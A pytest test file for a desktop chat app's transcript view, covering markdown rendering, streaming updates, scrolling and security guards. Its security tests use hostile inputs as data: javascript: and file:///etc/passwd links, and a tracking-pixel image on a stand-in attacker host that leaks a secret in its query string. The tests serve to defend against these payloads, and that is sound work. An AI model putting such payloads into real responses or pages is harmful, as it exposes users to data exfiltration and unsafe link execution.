"""The transcript view: the shown path, streaming into it, and what it refuses to load or open."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from typing import Any

import pytest
from PySide6.QtCore import QByteArray, QPoint, Qt, QTimer, QUrl
from PySide6.QtGui import QTextCursor, QTextDocument

from desktop_chat.core.content.markdown import render_html
from desktop_chat.core.conversation.model import Node, NodeStatus, Usage, user_message
from desktop_chat.ui import theme
from desktop_chat.ui.transcript.transcript import TranscriptView
from tests.views import shown_transcript

SECTIONS = [
    "## Part {i}\n\nSome prose with **bold**, *emphasis*, `inline code` and a [link](https://example.com/{i}).\n"
    "It wraps onto a second line of the same paragraph.\n\n",
    "- first point {i}\n- second point with `code`\n  - a nested point\n\n",
    "1. step one\n2. step two\n3. step three\n\n",
    "| name | value |\n|------|------:|\n| alpha | {i} |\n| beta | {i}{i} |\n\n",
    "```python\ndef f_{i}(x):\n    return x * {i}  # comment\n```\n\n",
    "> A quotation that spans\n> two lines.\n\n",
    "한국어 문단 {i}: 스트리밍 중에도 글자가 깨지지 않아야 합니다. 中文段落也一样。\n\n",
    "---\n\n",
]


def mixed_markdown(size: int, seed: int = 7) -> str:
    rng = random.Random(seed)
    out = ""
    i = 0
    while len(out) < size:
        out += rng.choice(SECTIONS).format(i=i)
        i += 1
    return out + "The end, without a trailing newline"


def deltas(text: str, seed: int = 3) -> Iterator[str]:
    rng = random.Random(seed)
    i = 0
    while i < len(text):
        step = rng.randint(1, 8)
        yield text[i : i + step]
        i += step


def answered(prompt: str, answer: str, status: NodeStatus = NodeStatus.COMPLETED, **extra: Any) -> Node:
    node = Node("conv", None, [user_message(prompt)], output_text=answer, status=status, **extra)
    return node


@pytest.fixture
def view(qtbot: Any) -> TranscriptView:
    return shown_transcript(qtbot, 500, 400)


def block_containing(view: TranscriptView, text: str) -> Any:
    found = view.document().find(text)
    assert not found.isNull(), f"{text!r} is not shown"
    return found


# -- the path ----------------------------------------------------------------------------------


def test_path_shows_prompts_answers_and_what_happened(view: TranscriptView) -> None:
    nodes = [
        answered(
            "First <b>question</b>",
            "An answer with **bold** and a list:\n\n- one\n- two",
            model="gpt-test",
            usage=Usage(input_tokens=1234, output_tokens=56, cached_tokens=7),
        ),
        answered("Second question", "Half an ans", NodeStatus.STOPPED),
        answered("Third", "", NodeStatus.FAILED, error="The server rejected the API key."),
        answered("Fourth", "Cut", NodeStatus.INCOMPLETE, error="The answer hit max output tokens."),
        answered(
            "Fifth",
            "Partial",
            NodeStatus.INTERRUPTED,
            notice="The server had lost this branch; the history was resent.",
        ),
    ]
    view.show_path(nodes)
    text = view.rendered_text()
    assert text.count("You") == 5
    assert "First <b>question</b>" in text  # the prompt is plain text
    assert "An answer with bold and a list:" in text and "**" not in text
    assert "gpt-test · 1,234 in / 56 out tokens (7 cached)" in text
    assert "Half an ans\nStopped — partial answer kept" in text
    assert "⚠ The server rejected the API key." in text
    assert "Incomplete: The answer hit max output tokens." in text
    assert "Interrupted — the app closed while this answer was streaming" in text
    assert "ℹ The server had lost this branch; the history was resent." in text
    assert text.index("First") < text.index("Second") < text.index("Fifth")
    error = block_containing(view, "⚠ The server rejected")
    assert error.charFormat().foreground().color().name() == theme.current().error
    bold = block_containing(view, "bold")
    assert bold.charFormat().fontWeight() >= 600
    # the view ends scrolled to the bottom, where the newest answer is
    assert view.verticalScrollBar().value() == view.verticalScrollBar().maximum() > 0


def test_empty_path_clears_the_view(view: TranscriptView) -> None:
    view.show_path([answered("q", "a")])
    view.show_path([])
    assert view.rendered_text() == ""


def test_cjk_round_trips(view: TranscriptView) -> None:
    prompt = "한국어로 설명해 주세요 — 中文也可以"
    answer = "# 제목\n\n나무는 **가지**를 가집니다.\n\n- 第一点\n- 第二点"
    view.show_path([answered(prompt, answer)])
    text = view.rendered_text()
    assert prompt in text
    assert "제목\n나무는 가지를 가집니다.\n第一点\n第二点" in text


# -- streaming ---------------------------------------------------------------------------------


def stream_through_timer(qtbot: Any, view: TranscriptView, node: Node, text: str) -> int:
    """Feed `text` in small deltas from the event loop, as the turn runner does; returns #deltas."""
    pieces = list(deltas(text))
    fed = 0

    def feed_one() -> None:
        nonlocal fed
        if fed == len(pieces):
            timer.stop()
            return
        node.output_text += pieces[fed]
        fed += 1
        view.update_streaming(node)

    timer = QTimer()
    timer.setInterval(0)
    timer.timeout.connect(feed_one)
    timer.start()
    qtbot.waitUntil(lambda: fed == len(pieces), timeout=60_000)
    return len(pieces)


def test_streaming_ends_as_show_path_renders_the_finished_answer(qtbot: Any, view: TranscriptView) -> None:
    text = mixed_markdown(20_000)
    earlier = answered("Earlier question", "Earlier *answer*.")
    node = Node("conv", earlier.id, [user_message("Write a long answer")], model="gpt-test")
    view.show_path([earlier, node])

    count = stream_through_timer(qtbot, view, node, text)
    qtbot.waitUntil(lambda: view.stats.renders > 0 and not view._timer.isActive())
    assert "The end, without a trailing" in view.rendered_text()  # the last frame was rendered
    node.status = NodeStatus.COMPLETED
    node.usage = Usage(input_tokens=10, output_tokens=5000)
    view.update_streaming(node)

    fresh = TranscriptView()
    qtbot.addWidget(fresh)
    fresh.show_path([earlier, node])
    assert view.rendered_text() == fresh.rendered_text()
    assert re.search(
        r"The end, without a trailing newline\ngpt-test · 10 in / 5,000 out tokens · [\d: -]+$",
        view.rendered_text(),
    )
    # coalesced: far fewer renders than deltas (at most one per frame)
    assert 1 < view.stats.renders < count / 4, (view.stats.renders, count)
    assert view.stats.updates == count + 1


def test_each_render_inserts_only_the_open_tail(qtbot: Any, view: TranscriptView) -> None:
    text = mixed_markdown(20_000, seed=11)
    node = Node("conv", None, [user_message("q")])
    view.show_path([node])
    for delta in deltas(text):
        node.output_text += delta
        view.update_streaming(node)
        view.flush()  # the worst case: a render for every delta
    full_html = len(render_html(text))
    tails = [tail for closed, tail in view.stats.tails if closed > 0]
    assert len(tails) > 2000
    # The largest top-level block here is a few hundred characters of HTML; the answer is ~40k.
    assert max(tails) < 2500 < full_html / 10
    node.status = NodeStatus.COMPLETED
    view.update_streaming(node)
    fresh = TranscriptView()
    qtbot.addWidget(fresh)
    fresh.show_path([node])
    assert view.rendered_text() == fresh.rendered_text()


def test_replaced_text_is_rendered_from_scratch(view: TranscriptView) -> None:
    node = Node("conv", None, [user_message("q")], output_text="# Old\n\nfirst answer\n\nmore")
    view.show_path([node])
    node.output_text = "A different answer"
    node.status = NodeStatus.COMPLETED
    view.update_streaming(node)
    text = view.rendered_text()
    assert "A different answer" in text and "Old" not in text and "first answer" not in text


def test_updates_for_a_node_not_shown_are_ignored(view: TranscriptView) -> None:
    shown = Node("conv", None, [user_message("shown")], output_text="visible")
    view.show_path([shown])
    other = Node("conv", None, [user_message("other")], output_text="elsewhere", status=NodeStatus.COMPLETED)
    view.update_streaming(other)
    view.flush()
    assert "elsewhere" not in view.rendered_text() and "visible" in view.rendered_text()


def test_the_view_follows_the_stream_only_when_at_the_bottom(view: TranscriptView) -> None:
    node = Node("conv", None, [user_message("q")])
    view.show_path([node])
    scrollbar = view.verticalScrollBar()

    def grow(paragraphs: int) -> None:
        for i in range(paragraphs):
            node.output_text += f"Paragraph {i} of a long answer that needs scrolling.\n\n"
            view.update_streaming(node)
            view.flush()

    grow(40)
    assert scrollbar.maximum() > 0 and scrollbar.value() == scrollbar.maximum()
    reading = scrollbar.maximum() // 3
    scrollbar.setValue(reading)  # the user scrolls up to read
    grow(20)
    assert scrollbar.value() == reading < scrollbar.maximum()
    scrollbar.setValue(scrollbar.maximum())  # back at the bottom: follow again
    grow(10)
    assert scrollbar.value() == scrollbar.maximum()


# -- security ----------------------------------------------------------------------------------


def click_text(qtbot: Any, view: TranscriptView, text: str) -> None:
    found = view.document().find(text)
    assert not found.isNull()
    cursor = QTextCursor(view.document())
    cursor.setPosition(found.selectionStart() + 1)
    view.setTextCursor(cursor)
    view.ensureCursorVisible()
    rect = view.cursorRect(cursor)
    point = QPoint(rect.center().x() + 2, rect.center().y())
    qtbot.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=point)


def test_links_open_on_click_only_for_http_https(qtbot: Any, view: TranscriptView) -> None:
    opened: list[QUrl] = []
    view.link_opener = opened.append
    answer = "[safe](https://example.com/page) and [bad](javascript:alert(1)) and [local](file:///etc/passwd)"
    view.show_path([answered("links", answer)])
    click_text(qtbot, view, "safe")
    assert [u.toString() for u in opened] == ["https://example.com/page"]
    click_text(qtbot, view, "bad")
    click_text(qtbot, view, "local")
    assert len(opened) == 1
    # even if such a link reached the view, it would not be opened
    for url in ("javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "myapp://run"):
        view.anchorClicked.emit(QUrl(url))
    assert len(opened) == 1
    view.anchorClicked.emit(QUrl("http://example.org/"))
    assert [u.toString() for u in opened][-1] == "http://example.org/"
    assert view.source().isEmpty()  # no navigation happened inside the view


def test_remote_images_are_never_loaded(qtbot: Any, view: TranscriptView) -> None:
    url = "https://attacker.example/pixel.png?leak=secret"
    answer = f'Look: ![tracking pixel]({url})\n\n<img src="{url}">'
    node = Node("conv", None, [user_message("q")])
    view.show_path([node])
    for delta in deltas(answer):
        node.output_text += delta
        view.update_streaming(node)
        view.flush()
    node.status = NodeStatus.COMPLETED
    view.update_streaming(node)
    view.repaint()
    assert view.refused_resources == []
    assert "Look: [image: tracking pixel]" in view.rendered_text()
    assert f'<img src="{url}">' in view.rendered_text()  # raw HTML is shown as text
    link = block_containing(view, "[image: tracking pixel]")
    assert link.charFormat().anchorHref() == url  # a link the user may choose to click
    # The guard itself: an <img> that did reach the document is refused, not fetched.
    names = [url, "relative.png", "data:image/png;base64,iVBORw0KGgo="]
    view.setHtml("".join(f'<p><img src="{name}"></p>' for name in names))
    view.repaint()
    assert {u.toString() for u in view.refused_resources} == set(names)
    for name in names:  # what the document holds for each is the empty answer, not image data
        resource = view.document().resource(QTextDocument.ResourceType.ImageResource, QUrl(name))
        assert isinstance(resource, QByteArray) and resource.isEmpty()


def test_opening_many_conversations_keeps_the_document_small(view: TranscriptView) -> None:
    """Each open renders into a new document: text formats (links, anchors) do not pile up."""

    def conversation(number: int) -> list[Node]:
        nodes: list[Node] = []
        for turn in range(4):
            answer = f"See [page {number}-{turn}](https://example.com/{number}/{turn}) and `code {turn}`."
            nodes.append(answered(f"question {number}.{turn}", answer, id=f"n{number}-{turn}"))
        return nodes

    counts = []
    for number in range(60):
        view.show_path(conversation(number))
        counts.append(len(view.document().allFormats()))
    assert "question 59.3" in view.toPlainText() and "question 58.0" not in view.toPlainText()
    assert counts[-1] <= counts[0] + 2, counts
    view.show_path(conversation(59)[:2])  # a shorter path in the same conversation: shared turns kept
    assert "question 59.1" in view.toPlainText() and "question 59.2" not in view.toPlainText()
